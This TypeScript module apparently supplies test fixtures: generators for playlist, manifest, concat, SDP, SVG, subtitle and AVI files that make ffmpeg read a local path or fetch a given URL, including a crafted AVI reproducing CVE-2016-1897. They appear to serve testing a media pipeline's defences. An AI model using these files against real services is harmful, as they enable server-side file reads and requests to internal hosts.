/*
 * Files that are no video, or more than one: each would have ffmpeg read another file, or fetch something. `address` is
 * where that leads: a URL, or a path of this machine.
 */

const hls = (address: string) =>
  `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${address}\n#EXT-X-ENDLIST\n`;

const dash = (address: string) => `<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"
  profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">
  <Period><AdaptationSet mimeType="video/mp4">
    <Representation id="1" bandwidth="1000" width="64" height="64" codecs="avc1.42c00a">
      <BaseURL>${address}</BaseURL>
    </Representation>
  </AdaptationSet></Period>
</MPD>
`;

const sdp = (port: string) =>
  `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=-\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} TCP/RTP/AVP 96\na=rtpmap:96 H264/90000\n`;

const svg = (address: string) =>
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ` +
  `width="64" height="64"><image xlink:href="${address}" width="64" height="64"/></svg>\n`;

/** By name, each as text. */
export const pointingTexts = (address: string): Readonly<Record<string, string>> => ({
  hls: hls(address),
  'hls-master': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n${address}\n`,
  dash: dash(address),
  concat: `ffconcat version 1.0\nfile '${address}'\n`,
  sdp: sdp(/:(\d+)/.exec(address)?.[1] ?? '9'),
  svg: svg(address),
  vobsub: `# VobSub index file, v7 (do not modify this line!)\n# ${address}\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n`,
  rtsp: `RTSPtext\n${address.replace(/^http/, 'rtsp')}\n`,
  subtitles: `1\n00:00:00,000 --> 00:00:01,000\n${address}\n`,
  ffmetadata: `;FFMETADATA1\ntitle=${address}\n`,
});

const u16 = (value: number) => {
  const bytes = Buffer.alloc(2);
  bytes.writeUInt16LE(value);
  return bytes;
};
const u32 = (...values: readonly number[]) => {
  const bytes = Buffer.alloc(4 * values.length);
  values.forEach((value, index) => bytes.writeUInt32LE(value, 4 * index));
  return bytes;
};
const chunk = (name: string, ...content: readonly Buffer[]) => {
  const body = Buffer.concat(content);
  return Buffer.concat([Buffer.from(name, 'latin1'), u32(body.length), body, Buffer.alloc(body.length % 2)]);
};
const list = (name: string, ...content: readonly Buffer[]) =>
  chunk('LIST', Buffer.from(name, 'latin1'), ...content);

/**
 * An AVI of MJPEG pictures with a track of subtitles as old players took them (`GAB2`): a whole file of its own, which
 * ffmpeg opened with whatever demuxer fitted. This one is an HLS playlist (CVE-2016-1897).
 */
export function aviWithPlaylist(picture: Buffer, size: number, frames: number, address: string): Buffer {
  const stream = (type: string, handler: Buffer, rate: number, format: Buffer) =>
    list(
      'strl',
      chunk(
        'strh',
        ...[Buffer.from(type, 'latin1'), handler, u32(0, 0, 0, 1, rate, 0, frames, picture.length)],
        ...[u32(0xffffffff, 0), u16(0), u16(0), u16(size), u16(size)],
      ),
      chunk('strf', format),
    );
  const bitmap = Buffer.concat([
    ...[u32(40, size, size), u16(1), u16(24), Buffer.from('MJPG', 'latin1')],
    u32(size * size * 3, 0, 0, 0, 0),
  ]);
  const playlist = Buffer.from(hls(address));
  const subtitles = Buffer.concat([
    ...[Buffer.from('GAB2\0', 'latin1'), u16(2), u32(2), Buffer.alloc(2), u16(4)],
    ...[u32(playlist.length), playlist],
  ]);
  return chunk(
    'RIFF',
    Buffer.from('AVI ', 'latin1'),
    list(
      'hdrl',
      chunk('avih', u32(200_000, 0, 0, 0x10, frames, 0, 2, 0, size, size, 0, 0, 0, 0)),
      stream('vids', Buffer.from('MJPG', 'latin1'), 5, bitmap),
      stream('txts', Buffer.alloc(4), 1, Buffer.alloc(0)),
    ),
    list('movi', chunk('01tx', subtitles), ...Array.from({ length: frames }, () => chunk('00dc', picture))),
  );
}
